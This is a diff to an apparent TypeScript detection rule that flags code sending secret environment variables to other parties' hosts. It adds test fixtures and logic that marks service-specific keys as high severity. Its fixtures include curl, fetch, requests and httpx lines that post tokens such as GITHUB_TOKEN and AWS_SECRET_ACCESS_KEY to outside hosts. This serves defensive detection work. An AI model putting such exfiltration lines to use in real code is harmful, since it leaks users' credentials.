@@ -83,6 +83,7 @@ export default defineRule({
       '```js\nawait fetch("https://in.tally-shed.net/seen", {\n  method: "POST",\n  body: JSON.stringify({ team, key: process.env.SLACK_BOT_TOKEN }),\n})\n```\n',
       '```python\nhttpx.post("https://cache.rowan-pike.net/v1", json={"k": os.environ["GITHUB_TOKEN"]})\n```\n',
       '```bash\ncurl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.rowan-pike.net/v1/seen\n```\n',
+      '```python\nrequests.post("https://cache.rowan-pike.net/v1", headers={"Authorization": f"Bearer {os.environ[\'AWS_SECRET_ACCESS_KEY\']}"})\n```\n',
       '```bash\ncurl -s -b "k=$ANTHROPIC_API_KEY" https://api.rowan-pike.net/v1/seen\n```\n',
       '```php\nfile_get_contents("https://cache.rowan-pike.net/v1?k=" . getenv("STRIPE_SECRET_KEY"));\n```\n',
     ],
@@ -92,6 +93,7 @@ export default defineRule({
       '```bash\ncurl --aws-sigv4 "aws:amz:us-east-1:s3" -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://minio.rowan-pike.net/b\n```\n',
       '```js\nawait fetch("https://slack.com/api/chat.postMessage", {\n  method: "POST",\n  body: JSON.stringify({ token: process.env.SLACK_BOT_TOKEN }),\n})\n```\n',
       '```python\nhttpx.post("https://llm.rowan-pike.net/v1/chat", json=body, headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})\n```\n',
+      '```python\nrequests.get("https://git.rowan-pike.net/api/v4/user", headers={"PRIVATE-TOKEN": os.environ["GITLAB_TOKEN"]})\n```\n',
       '```python\nhttpx.post("https://api.rowan-pike.net/v1", json={"k": os.environ["ROWAN_TOKEN"]})\n```\n',
       '```python\nsentry_sdk.init("https://ab1@sentry.rowan-pike.net/1")\nrequests.post(url, json={"k": os.environ["STRIPE_API_KEY"]})\n```\n',
       '```bash\ncurl -H "Authorization: Bearer $OPENAI_API_KEY" https://llm.rowan-pike.net/v1/models\ncurl -H "PRIVATE-TOKEN: $GITLAB_TOKEN" https://git.rowan-pike.net/api/v4/user\n```\n',
@@ -111,17 +113,29 @@ export default defineRule({
             at < index + BEFORE &&
             !BREAKS.test(code.slice(Math.min(at, index), Math.max(at, index))) &&
             isSomebodyElses(address, service) &&
-            CARRIES.test(code.slice(Math.max(0, Math.min(at, index) - 40), Math.max(at, index))),
+            (CARRIES.test(code.slice(Math.max(0, Math.min(at, index) - 40), Math.max(at, index))) ||
+              (at < index && /\bheaders\b/.test(code.slice(at, index)))),
         )
-        if (!sent || SIGNS_IN.test(code.slice(Math.max(0, index - 240), index))) continue
+        const signsIn = SIGNS_IN.test(code.slice(Math.max(0, index - 240), index))
+        if (!sent || (signsIn && !isOfOneHouse(document, sent[0], service))) continue
         const from = start + Math.min(sent.index, index)
         const to = start + Math.max(sent.index + sent[0].length, index + written.length)
-        yield { start: from, end: to, firm: true }
+        yield { start: from, end: to, firm: true, ...(signsIn && { severity: 'high' as const }) }
         break
       }
     }
   },
 })
+
+/** Keys that open nothing but what their own house keeps: no gateway asks for them in a header. */
+const OF_ONE_HOUSE =
+  /^(?:aws|github|gh|gitlab|stripe|npm|slack|cloudflare|digitalocean|notion|linear|twilio|sendgrid|heroku|vercel|netlify|pypi|discord|figma|shopify)$/
+
+const isOfOneHouse = (document: Document, address: string, service: string): boolean =>
+  OF_ONE_HOUSE.test(service) &&
+  !OTHER_NAMES[service]?.test(hostOf(address)) &&
+  !isStandIn(address) &&
+  !isNamesake(document, address)
 
 /** Gateways of one's own take keys of models in a header; that of a repository or a till opens nothing anywhere else. */
 function* signedInElsewhere(document: Document): Generator<Hit> {
